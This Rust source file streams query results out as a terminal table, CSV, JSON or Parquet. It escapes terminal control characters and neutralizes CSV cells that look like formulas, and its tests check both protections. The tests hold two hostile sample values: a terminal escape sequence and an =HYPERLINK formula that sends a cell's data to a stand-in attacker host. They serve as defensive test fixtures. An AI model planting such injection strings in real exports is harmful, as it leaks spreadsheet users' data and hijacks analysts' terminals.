//! Writing batches out: an aligned table for people, CSV (RFC 4180 with a header), JSON lines,
//! one JSON array, or zstd Parquet. Every format streams: a batch is written and dropped.
//!
//! Values come from logs, written by whoever typed them. A table shows them with the characters
//! a terminal acts on escaped ([`crate::escape::terminal`]); CSV string cells that a spreadsheet
//! would evaluate get a leading `'` unless [`CsvFormulas::Verbatim`] is asked for
//! ([`crate::escape::csv_cell`]); JSON and Parquet hold the values exactly.

use std::io::Write;
use std::str::FromStr;

use arrow::array::RecordBatch;
use arrow::datatypes::SchemaRef;
use arrow::util::display::{ArrayFormatter, FormatOptions};
use parquet::arrow::ArrowWriter;
use parquet::basic::{Compression, ZstdLevel};
use parquet::file::properties::WriterProperties;
use serde::{Deserialize, Serialize};

use crate::error::{QueryError, Result};

/// The time format of CSV and table output: RFC 3339 in UTC.
const CSV_TIME_FORMAT: &str = "%Y-%m-%dT%H:%M:%S%.6fZ";
const TABLE_TIME_FORMAT: &str = "%Y-%m-%d %H:%M:%S";
/// Rows a table reads before it fixes its column widths.
const TABLE_SAMPLE_ROWS: usize = 200;
/// The widest a table column gets.
const TABLE_MAX_COLUMN: usize = 60;
const TABLE_MIN_COLUMN: usize = 6;

/// An output format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Table,
    Csv,
    Jsonl,
    Json,
    Parquet,
}

impl FromStr for Format {
    type Err = QueryError;
    fn from_str(s: &str) -> Result<Format> {
        Ok(match s {
            "table" => Format::Table,
            "csv" => Format::Csv,
            "jsonl" => Format::Jsonl,
            "json" => Format::Json,
            "parquet" => Format::Parquet,
            _ => {
                return Err(QueryError::arg(
                    "--format",
                    format!("{s:?}: expected table, csv, jsonl, json or parquet"),
                ));
            }
        })
    }
}

/// What CSV output does with a string cell a spreadsheet would evaluate as a formula (one that
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CsvFormulas {
    /// Put a `'` before it, so that a spreadsheet shows it as text (the default). Numeric
    /// columns are never changed.
    #[default]
    Neutralize,
    /// Write it as it is: for programs that read the CSV, not spreadsheets.
    Verbatim,
}

type Out = Box<dyn Write + Send>;

/// A streaming writer of one format.
pub struct OutputWriter {
    inner: Inner,
    schema: SchemaRef,
    csv_formulas: CsvFormulas,
}

enum Inner {
    Table(TableWriter),
    Csv(Box<CsvWriter>),
    Jsonl(arrow::json::LineDelimitedWriter<Out>),
    Json(arrow::json::ArrayWriter<Out>),
    Parquet(Box<ArrowWriter<Out>>),
}

impl std::fmt::Debug for OutputWriter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("OutputWriter")
    }
}

impl OutputWriter {
    /// A writer of `format` for batches of `schema`; `width` is the terminal's width for tables.
    pub fn new(format: Format, schema: SchemaRef, out: Out, width: usize) -> Result<Self> {
        let inner = match format {
            Format::Table => Inner::Table(TableWriter::new(schema.clone(), out, width)),
            Format::Csv => Inner::Csv(Box::new(CsvWriter::new(out))),
            Format::Jsonl => Inner::Jsonl(
                arrow::json::WriterBuilder::new()
                    .with_explicit_nulls(true)
                    .build(out),
            ),
            Format::Json => Inner::Json(
                arrow::json::WriterBuilder::new()
                    .with_explicit_nulls(true)
                    .build(out),
            ),
            Format::Parquet => {
                let props = WriterProperties::builder()
                    .set_compression(Compression::ZSTD(
                        ZstdLevel::try_new(3)
                            .map_err(|source| QueryError::ParquetOutput { source })?,
                    ))
                    .build();
                Inner::Parquet(Box::new(
                    ArrowWriter::try_new(out, schema.clone(), Some(props))
                        .map_err(|source| QueryError::ParquetOutput { source })?,
                ))
            }
        };
        Ok(OutputWriter {
            inner,
            schema,
            csv_formulas: CsvFormulas::default(),
        })
    }

    /// What CSV does with cells that look like formulas; other formats ignore it.
    pub fn with_csv_formulas(mut self, csv_formulas: CsvFormulas) -> Self {
        self.csv_formulas = csv_formulas;
        self
    }

    pub fn write(&mut self, batch: &RecordBatch) -> Result<()> {
        let err = QueryError::arrow("writing the output");
        let utc;
        let batch = if matches!(self.inner, Inner::Parquet(_) | Inner::Csv(_)) {
            batch
        } else {
            utc = with_offset_timezone(batch)?;
            &utc
        };
        match &mut self.inner {
            Inner::Table(t) => t.write(batch),
            Inner::Csv(w) => w.write(batch, self.csv_formulas),
            Inner::Jsonl(w) => w.write(batch).map_err(err),
            Inner::Json(w) => w.write(batch).map_err(err),
            Inner::Parquet(w) => w
                .write(batch)
                .map_err(|source| QueryError::ParquetOutput { source }),
        }
    }

    /// Ends the output (closing brackets, the Parquet footer) and flushes it.
    pub fn finish(self) -> Result<()> {
        let err = QueryError::arrow("writing the output");
        match self.inner {
            Inner::Table(t) => t.finish(),
            Inner::Csv(w) => w.finish(&self.schema),
            Inner::Jsonl(mut w) => {
                w.finish().map_err(err)?;
                Ok(w.into_inner().flush()?)
            }
            Inner::Json(mut w) => {
                w.finish().map_err(err)?;
                let mut out = w.into_inner();
                out.write_all(b"\n")?;
                Ok(out.flush()?)
            }
            Inner::Parquet(w) => {
                let mut out = w
                    .into_inner()
                    .map_err(|source| QueryError::ParquetOutput { source })?;
                Ok(out.flush()?)
            }
        }
    }
}

/// The batch with its `UTC` timestamps labelled `+00:00`: the same instants, in the form the
/// text formatters know without a time zone database.
pub(crate) fn with_offset_timezone(batch: &RecordBatch) -> Result<RecordBatch> {
    use arrow::array::{Array, AsArray};
    use arrow::datatypes::{DataType, Field, Schema, TimeUnit, TimestampMicrosecondType};
    use std::sync::Arc;
    if !batch
        .schema()
        .fields()
        .iter()
        .any(|f| matches!(f.data_type(), DataType::Timestamp(_, Some(_))))
    {
        return Ok(batch.clone());
    }
    let mut fields = Vec::new();
    let mut cols = Vec::new();
    for (f, c) in batch.schema().fields().iter().zip(batch.columns()) {
        match (
            f.data_type(),
            c.as_primitive_opt::<TimestampMicrosecondType>(),
        ) {
            (DataType::Timestamp(TimeUnit::Microsecond, Some(_)), Some(a)) => {
                let a = a.clone().with_timezone("+00:00");
                fields.push(Field::new(f.name(), a.data_type().clone(), f.is_nullable()));
                cols.push(Arc::new(a) as arrow::array::ArrayRef);
            }
            _ => {
                fields.push(f.as_ref().clone());
                cols.push(c.clone());
            }
        }
    }
    RecordBatch::try_new(Arc::new(Schema::new(fields)), cols)
        .map_err(QueryError::arrow("writing the output"))
}

/// CSV (RFC 4180, a header, `\n` line ends, empty for null) written cell by cell from the
/// arrays: times in [`CSV_TIME_FORMAT`] digit by digit (the format string costs more than the
/// rest of a row), and with [`CsvFormulas::Neutralize`] string cells a spreadsheet would
/// evaluate get their `'` as they are written ([`crate::escape::csv_cell`]), with no converted
/// copy of the batch made first. Quoting is the `csv` crate's.
struct CsvWriter {
    out: csv::Writer<Out>,
    header: bool,
    /// A cell formatted by [`ArrayFormatter`], or a neutralized string cell.
    field: String,
}

/// How one column of one batch is written.
enum CsvCell<'a> {
    Text(&'a arrow::array::StringArray),
    /// Microseconds, every value within the years 0 to 9999 ([`rfc3339_micros`]).
    Time(&'a arrow::array::TimestampMicrosecondArray),
    Other(ArrayFormatter<'a>),
}

impl CsvWriter {
    fn new(out: Out) -> CsvWriter {
        CsvWriter {
            out: csv::WriterBuilder::new()
                .terminator(csv::Terminator::Any(b'\n'))
                .from_writer(out),
            header: false,
            field: String::new(),
        }
    }

    fn write_header(&mut self, schema: &arrow::datatypes::Schema) -> Result<()> {
        if !self.header {
            self.header = true;
            self.out
                .write_record(schema.fields().iter().map(|f| f.name().as_bytes()))
                .map_err(csv_error)?;
        }
        Ok(())
    }

    fn write(&mut self, batch: &RecordBatch, formulas: CsvFormulas) -> Result<()> {
        use arrow::array::Array;
        self.write_header(&batch.schema())?;
        let columns = csv_columns(batch)?;
        let options = FormatOptions::default()
            .with_null("")
            .with_timestamp_tz_format(Some(CSV_TIME_FORMAT));
        let cells = columns
            .iter()
            .map(|c| csv_cell(c, &options))
            .collect::<Result<Vec<_>>>()?;
        let neutralize = formulas == CsvFormulas::Neutralize;
        let mut time = [0u8; 27];
        for r in 0..batch.num_rows() {
            for cell in &cells {
                let bytes: &[u8] = match cell {
                    CsvCell::Text(a) if a.is_null(r) => b"",
                    CsvCell::Text(a) => {
                        let v = a.value(r);
                        if neutralize && crate::escape::is_formula(v) {
                            self.field.clear();
                            self.field.push('\'');
                            self.field.push_str(v);
                            self.field.as_bytes()
                        } else {
                            v.as_bytes()
                        }
                    }
                    CsvCell::Time(a) if a.is_null(r) => b"",
                    CsvCell::Time(a) => rfc3339_micros(a.value(r), &mut time).as_bytes(),
                    CsvCell::Other(f) => {
                        self.field.clear();
                        f.value(r)
                            .write(&mut self.field)
                            .map_err(QueryError::arrow("writing the output"))?;
                        self.field.as_bytes()
                    }
                };
                self.out.write_field(bytes).map_err(csv_error)?;
            }
            self.out.write_record(None::<&[u8]>).map_err(csv_error)?;
        }
        // Each batch reaches the reader (a pipe, a download) as it is written.
        Ok(self.out.flush()?)
    }

    fn finish(mut self, schema: &arrow::datatypes::Schema) -> Result<()> {
        // No row matched: the header still says what the columns are.
        self.write_header(schema)?;
        self.out.flush()?;
        Ok(())
    }
}

fn csv_error(e: csv::Error) -> QueryError {
    match e.into_kind() {
        csv::ErrorKind::Io(source) => QueryError::Output { source },
        other => QueryError::Output {
            source: std::io::Error::other(format!("{other:?}")),
        },
    }
}

/// A batch's columns as [`CsvWriter`] writes them: text of every encoding as plain strings,
/// times labelled `+00:00` (the formatter needs no time zone database for it).
fn csv_columns(batch: &RecordBatch) -> Result<Vec<arrow::array::ArrayRef>> {
    use arrow::datatypes::DataType;
    let batch = with_offset_timezone(batch)?;
    batch
        .columns()
        .iter()
        .map(|c| match c.data_type() {
            t if t != &DataType::Utf8 && is_text(t) => arrow::compute::cast(c, &DataType::Utf8)
                .map_err(QueryError::arrow("writing the output")),
            t if t.is_nested() => Err(QueryError::arrow("writing the output")(
                arrow::error::ArrowError::CsvError(format!(
                    "Nested type {t} is not supported in CSV"
                )),
            )),
            _ => Ok(c.clone()),
        })
        .collect()
}

/// Text of any encoding: plain, large, view, or a dictionary of one of them.
fn is_text(t: &arrow::datatypes::DataType) -> bool {
    use arrow::datatypes::DataType;
    match t {
        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
        DataType::Dictionary(_, v) => matches!(
            **v,
            DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View
        ),
        _ => false,
    }
}

fn csv_cell<'a>(c: &'a arrow::array::ArrayRef, options: &FormatOptions<'a>) -> Result<CsvCell<'a>> {
    use arrow::array::AsArray;
    use arrow::datatypes::{DataType, TimeUnit, TimestampMicrosecondType};
    let in_range = |a: &arrow::array::TimestampMicrosecondArray| {
        a.iter()
            .flatten()
            .all(|t| (RFC3339_MIN_MICROS..=RFC3339_MAX_MICROS).contains(&t))
    };
    Ok(match c.data_type() {
        DataType::Utf8 => CsvCell::Text(c.as_string::<i32>()),
        DataType::Timestamp(TimeUnit::Microsecond, Some(_))
            if in_range(c.as_primitive::<TimestampMicrosecondType>()) =>
        {
            CsvCell::Time(c.as_primitive::<TimestampMicrosecondType>())
        }
        // A time outside the years 0 to 9999 is left to the formatter.
        _ => CsvCell::Other(
            ArrayFormatter::try_new(c.as_ref(), options)
                .map_err(QueryError::arrow("writing the output"))?,
        ),
    })
}

/// 0000-01-01T00:00:00Z and 9999-12-31T23:59:59.999999Z in microseconds since the epoch: the
/// times [`rfc3339_micros`] writes.
const RFC3339_MIN_MICROS: i64 = -62_167_219_200_000_000;
const RFC3339_MAX_MICROS: i64 = 253_402_300_799_999_999;

/// `micros` (within [`RFC3339_MIN_MICROS`] and [`RFC3339_MAX_MICROS`]) as
/// `YYYY-MM-DDTHH:MM:SS.ffffffZ`, the text chrono writes for [`CSV_TIME_FORMAT`].
fn rfc3339_micros(micros: i64, buf: &mut [u8; 27]) -> &str {
    let secs = micros.div_euclid(1_000_000);
    let frac = micros.rem_euclid(1_000_000) as u32;
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400) as u32;
    // Days since 1970-01-01 to a civil date (H. Hinnant's algorithm, proleptic Gregorian).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let month = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let year = (yoe + era * 400 + i64::from(month <= 2)) as u32;
    fn put(buf: &mut [u8], mut v: u32) {
        for b in buf.iter_mut().rev() {
            *b = b'0' + (v % 10) as u8;
            v /= 10;
        }
    }
    put(&mut buf[0..4], year);
    buf[4] = b'-';
    put(&mut buf[5..7], month);
    buf[7] = b'-';
    put(&mut buf[8..10], day);
    buf[10] = b'T';
    put(&mut buf[11..13], sod / 3600);
    buf[13] = b':';
    put(&mut buf[14..16], sod / 60 % 60);
    buf[16] = b':';
    put(&mut buf[17..19], sod % 60);
    buf[19] = b'.';
    put(&mut buf[20..26], frac);
    buf[26] = b'Z';
    // Only ASCII digits and separators were written.
    std::str::from_utf8(buf).unwrap_or_default()
}

/// An aligned table: widths are fixed from the first rows (so that it streams), values wider
/// than their column are cut with `…`, and the whole fits in `width` columns where it can.
struct TableWriter {
    schema: SchemaRef,
    out: Out,
    width: usize,
    pending: Vec<Vec<String>>,
    widths: Option<Vec<usize>>,
    rows: u64,
}

impl TableWriter {
    fn new(schema: SchemaRef, out: Out, width: usize) -> Self {
        TableWriter {
            schema,
            out,
            width,
            pending: Vec::new(),
            widths: None,
            rows: 0,
        }
    }

    fn write(&mut self, batch: &RecordBatch) -> Result<()> {
        let opts = FormatOptions::default()
            .with_null("")
            .with_timestamp_tz_format(Some(TABLE_TIME_FORMAT));
        let formatters = batch
            .columns()
            .iter()
            .map(|c| ArrayFormatter::try_new(c.as_ref(), &opts))
            .collect::<Result<Vec<_>, _>>()
            .map_err(QueryError::arrow("formatting a table"))?;
        for row in 0..batch.num_rows() {
            let cells: Vec<String> = formatters
                .iter()
                .map(|f| crate::escape::terminal(&f.value(row).to_string()).into_owned())
                .collect();
            self.rows += 1;
            if self.widths.is_some() {
                self.print_row(&cells)?;
            } else {
                self.pending.push(cells);
                if self.pending.len() >= TABLE_SAMPLE_ROWS {
                    self.fix_widths()?;
                }
            }
        }
        Ok(())
    }

    fn fix_widths(&mut self) -> Result<()> {
        let names: Vec<String> = self
            .schema
            .fields()
            .iter()
            .map(|f| crate::escape::terminal(f.name()).into_owned())
            .collect();
        let mut widths: Vec<usize> = names.iter().map(|n| n.chars().count()).collect();
        for row in &self.pending {
            for (w, c) in widths.iter_mut().zip(row) {
                *w = (*w).max(c.chars().count()).min(TABLE_MAX_COLUMN);
            }
        }
        let seps = 2 * widths.len().saturating_sub(1);
        while widths.iter().sum::<usize>() + seps > self.width {
            let (i, &w) = widths
                .iter()
                .enumerate()
                .max_by_key(|(_, w)| **w)
                .unwrap_or((0, &0));
            if w <= TABLE_MIN_COLUMN {
                break;
            }
            widths[i] = w - 1;
        }
        self.widths = Some(widths);
        self.print_row(&names)?;
        let rule: Vec<String> = self
            .widths
            .iter()
            .flatten()
            .map(|w| "-".repeat(*w))
            .collect();
        self.print_row(&rule)?;
        for row in std::mem::take(&mut self.pending) {
            self.print_row(&row)?;
        }
        Ok(())
    }

    fn print_row(&mut self, cells: &[String]) -> Result<()> {
        let widths = self.widths.as_deref().unwrap_or_default();
        let mut line = String::new();
        for (i, (c, &w)) in cells.iter().zip(widths).enumerate() {
            if i > 0 {
                line.push_str("  ");
            }
            let n = c.chars().count();
            if n > w {
                line.extend(c.chars().take(w.saturating_sub(1)));
                line.push('…');
            } else {
                line.push_str(c);
                if i + 1 < cells.len() {
                    line.extend(std::iter::repeat_n(' ', w - n));
                }
            }
        }
        writeln!(self.out, "{}", line.trim_end())?;
        Ok(())
    }

    fn finish(mut self) -> Result<()> {
        if self.widths.is_none() {
            self.fix_widths()?;
        }
        writeln!(self.out, "({} rows)", self.rows)?;
        Ok(self.out.flush()?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use arrow::array::{ArrayRef, StringArray};
    use arrow::datatypes::{DataType, Field, Schema};
    use std::sync::{Arc, Mutex};

    #[derive(Clone, Default)]
    struct Buf(Arc<Mutex<Vec<u8>>>);
    impl Write for Buf {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    fn batch() -> RecordBatch {
        let schema = Arc::new(Schema::new(vec![
            Field::new("a", DataType::Utf8, true),
            Field::new("b", DataType::Utf8, true),
        ]));
        let a: ArrayRef = Arc::new(StringArray::from(vec![Some("x, \"y\""), None]));
        let b: ArrayRef = Arc::new(StringArray::from(vec![
            Some("a very long value indeed"),
            Some("z"),
        ]));
        RecordBatch::try_new(schema, vec![a, b]).unwrap()
    }

    fn render(format: Format, width: usize) -> String {
        let buf = Buf::default();
        let b = batch();
        let mut w = OutputWriter::new(format, b.schema(), Box::new(buf.clone()), width).unwrap();
        w.write(&b).unwrap();
        w.finish().unwrap();
        String::from_utf8(buf.0.lock().unwrap().clone()).unwrap()
    }

    #[test]
    fn csv_times_are_what_the_format_string_writes() {
        let fmt = |t: i64| {
            chrono::DateTime::from_timestamp_micros(t)
                .unwrap()
                .format(CSV_TIME_FORMAT)
                .to_string()
        };
        let mut buf = [0u8; 27];
        // xorshift64: times spread over the whole range, the same every run.
        let mut x = 0x9e37_79b9_7f4a_7c15_u64;
        let span = (RFC3339_MAX_MICROS - RFC3339_MIN_MICROS) as u64;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            RFC3339_MIN_MICROS + (x % span) as i64
        };
        let edges = [
            0,
            -1,
            1,
            RFC3339_MIN_MICROS,
            RFC3339_MAX_MICROS,
            951_782_400_000_000,   // 2000-02-29
            4_107_542_399_999_999, // 2100-02-28T23:59:59.999999
            -2_203_891_200_000_001,
        ];
        for t in edges.into_iter().chain((0..20_000).map(|_| next())) {
            assert_eq!(rfc3339_micros(t, &mut buf), fmt(t), "{t}");
        }
    }

    #[test]
    fn csv_of_a_time_beyond_year_9999_is_left_to_the_formatter() {
        use arrow::array::TimestampMicrosecondArray;
        use arrow::datatypes::TimeUnit;
        let schema = Arc::new(Schema::new(vec![Field::new(
            "time",
            DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into())),
            true,
        )]));
        let col = |v: Vec<Option<i64>>| {
            Arc::new(TimestampMicrosecondArray::from(v).with_timezone("UTC")) as _
        };
        let render = |b: RecordBatch| {
            let buf = Buf::default();
            let mut w =
                OutputWriter::new(Format::Csv, b.schema(), Box::new(buf.clone()), 80).unwrap();
            w.write(&b).unwrap();
            w.finish().unwrap();
            String::from_utf8(buf.0.lock().unwrap().clone()).unwrap()
        };
        let ok = RecordBatch::try_new(schema.clone(), vec![col(vec![Some(0), None])]).unwrap();
        // A record of one empty cell is quoted, so that it is not read as a blank line.
        assert_eq!(render(ok), "time\n1970-01-01T00:00:00.000000Z\n\"\"\n");
        let far = RecordBatch::try_new(
            schema,
            vec![col(vec![Some(RFC3339_MAX_MICROS + 1), Some(0)])],
        )
        .unwrap();
        assert_eq!(
            render(far),
            "time\n+10000-01-01T00:00:00.000000Z\n1970-01-01T00:00:00.000000Z\n"
        );
    }

    #[test]
    fn csv_quotes_and_has_a_header() {
        assert_eq!(
            render(Format::Csv, 80),
            "a,b\n\"x, \"\"y\"\"\",a very long value indeed\n,z\n"
        );
    }

    #[test]
    fn csv_of_no_rows_is_its_header() {
        let buf = Buf::default();
        let w =
            OutputWriter::new(Format::Csv, batch().schema(), Box::new(buf.clone()), 80).unwrap();
        w.finish().unwrap();
        assert_eq!(
            String::from_utf8(buf.0.lock().unwrap().clone()).unwrap(),
            "a,b\n"
        );
        let buf = Buf::default();
        let w =
            OutputWriter::new(Format::Json, batch().schema(), Box::new(buf.clone()), 80).unwrap();
        w.finish().unwrap();
        let v: serde_json::Value = serde_json::from_slice(&buf.0.lock().unwrap().clone()).unwrap();
        assert_eq!(v, serde_json::json!([]));
    }

    #[test]
    fn json_is_one_array_with_explicit_nulls() {
        let v: serde_json::Value = serde_json::from_str(&render(Format::Json, 80)).unwrap();
        assert_eq!(v[1]["a"], serde_json::Value::Null);
        assert_eq!(v.as_array().unwrap().len(), 2);
        assert_eq!(render(Format::Jsonl, 80).lines().count(), 2);
    }

    #[test]
    fn table_fits_the_width() {
        let t = render(Format::Table, 20);
        for line in t.lines() {
            assert!(line.chars().count() <= 20, "{line:?}");
        }
        assert!(t.contains('…'), "{t}");
        assert!(t.ends_with("(2 rows)\n"), "{t}");
    }
    /// A user name that sets the terminal's title and turns it red when printed raw.
    const TERMINAL_HOSTILE: &str = "\x1b]0;pwned\x07\x1b[31mred\u{202e}";
    /// A user name that a spreadsheet turns into a link sending the sheet's data away.
    const CSV_HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    fn hostile() -> RecordBatch {
        use arrow::array::Int64Array;
        let schema = Arc::new(Schema::new(vec![
            Field::new("actor_id", DataType::Utf8, true),
            Field::new("seq", DataType::Int64, true),
        ]));
        let a: ArrayRef = Arc::new(StringArray::from(vec![
            Some(TERMINAL_HOSTILE),
            Some(CSV_HOSTILE),
            Some("-1"),
            None,
        ]));
        let n: ArrayRef = Arc::new(Int64Array::from(vec![Some(-5), Some(7), None, Some(-1)]));
        RecordBatch::try_new(schema, vec![a, n]).unwrap()
    }

    fn render_hostile(format: Format, formulas: CsvFormulas) -> String {
        let buf = Buf::default();
        let b = hostile();
        let mut w = OutputWriter::new(format, b.schema(), Box::new(buf.clone()), 200)
            .unwrap()
            .with_csv_formulas(formulas);
        w.write(&b).unwrap();
        w.finish().unwrap();
        String::from_utf8(buf.0.lock().unwrap().clone()).unwrap()
    }

    #[test]
    fn table_escapes_terminal_controls_in_values() {
        // A user name printed raw set the analyst's terminal title and colours.
        let t = render_hostile(Format::Table, CsvFormulas::Neutralize);
        assert!(
            !t.contains('\x1b') && !t.contains('\x07') && !t.contains('\u{202e}'),
            "{t:?}"
        );
        assert!(t.contains("\\x1b]0;pwned\\x07\\x1b[31mred\\u{202e}"), "{t}");
    }

    #[test]
    fn csv_neutralizes_formula_cells_but_not_numbers() {
        // A user name exported raw became a live HYPERLINK formula in a spreadsheet.
        let csv = render_hostile(Format::Csv, CsvFormulas::Neutralize);
        let rows: Vec<&str> = csv.lines().collect();
        assert_eq!(rows[0], "actor_id,seq");
        assert!(rows[2].starts_with("\"'=HYPERLINK("), "{csv}");
        assert_eq!(rows[3], "'-1,");
        assert_eq!(rows[4], ",-1", "a negative number stays a number");
        assert!(rows[1].ends_with(",-5"), "{csv}");
        let raw = render_hostile(Format::Csv, CsvFormulas::Verbatim);
        assert!(
            raw.lines().nth(2).unwrap().starts_with("\"=HYPERLINK("),
            "{raw}"
        );
        assert_eq!(raw.lines().nth(3).unwrap(), "-1,");
    }

    #[test]
    fn csv_neutralizes_formulas_in_dictionary_columns_too() {
        use arrow::array::{Array, DictionaryArray};
        use arrow::datatypes::Int32Type;
        let col: DictionaryArray<Int32Type> = vec![Some(CSV_HOSTILE), None, Some("ok")]
            .into_iter()
            .collect();
        let schema = Arc::new(Schema::new(vec![Field::new(
            "actor_id",
            col.data_type().clone(),
            true,
        )]));
        let b = RecordBatch::try_new(schema, vec![Arc::new(col) as ArrayRef]).unwrap();
        let buf = Buf::default();
        let mut w = OutputWriter::new(Format::Csv, b.schema(), Box::new(buf.clone()), 80).unwrap();
        w.write(&b).unwrap();
        w.finish().unwrap();
        let csv = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
        let rows: Vec<&str> = csv.lines().collect();
        assert!(rows[1].starts_with("\"'=HYPERLINK("), "{csv}");
        assert_eq!(rows[2], "\"\"");
        assert_eq!(rows[3], "ok");
    }

    #[test]
    fn json_keeps_hostile_values_exact() {
        let v: serde_json::Value =
            serde_json::from_str(&render_hostile(Format::Json, CsvFormulas::Neutralize)).unwrap();
        assert_eq!(v[0]["actor_id"], TERMINAL_HOSTILE);
        assert_eq!(v[1]["actor_id"], CSV_HOSTILE);
        assert_eq!(v[0]["seq"], -5);
    }
}
